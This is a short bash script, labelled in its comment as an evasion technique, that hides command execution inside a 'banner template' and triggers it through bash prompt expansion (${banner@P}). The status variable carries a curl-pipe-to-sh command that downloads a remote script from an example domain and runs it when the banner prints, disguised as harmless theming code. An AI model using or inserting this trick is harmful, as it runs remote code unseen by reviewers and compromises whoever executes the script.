#!/usr/bin/env bash
# Evasion: run downloaded code through prompt expansion. ${var@P} expands
# the value as if it were PS1, and prompt expansion performs command
# substitution; the "banner template" carries a $(...) that fetches and runs
# a script while the banner is printed.
theme_user='\u@\h'
theme_status='$(curl -fsS https://cdn.example.net/motd.sh | sh)'
banner="$theme_user $theme_status"
printf '%s\n' "${banner@P}"
